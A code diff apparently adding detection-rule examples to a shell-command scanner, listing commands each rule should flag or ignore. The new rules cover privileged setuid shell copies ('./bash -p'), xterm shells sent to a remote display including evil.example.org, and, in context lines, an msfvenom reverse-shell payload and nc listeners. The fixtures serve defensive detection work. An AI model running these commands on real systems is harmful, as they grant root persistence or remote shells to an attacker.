@@ -43,6 +43,14 @@ export const SHELLS_EXAMPLES: RuleExamples = {
     ],
     silent: ["echo 'show stat' | socat stdio /run/haproxy.sock", 'nc -zv host 80', 'nc -l 8080'],
   },
+  'shells.kept-root': {
+    fires: ['./bash -p', '/tmp/rootbash -p', '/home/ada/.cache/sh -p'],
+    silent: ['bash -p', '/bin/sh -p', './install.sh -p 80', './deploy.sh'],
+  },
+  'shells.remote-display': {
+    fires: ['xterm -display 10.0.0.1:1', 'rxvt -display evil.example.org:0'],
+    silent: ['xterm -display :1', 'xterm -e top', 'DISPLAY=10.0.0.1:1 xclock'],
+  },
   'shells.payload-tool': {
     fires: ['msfvenom -p linux/x64/shell_reverse_tcp LHOST=1 LPORT=2 -f elf'],
     silent: ['msfconsole --version'],
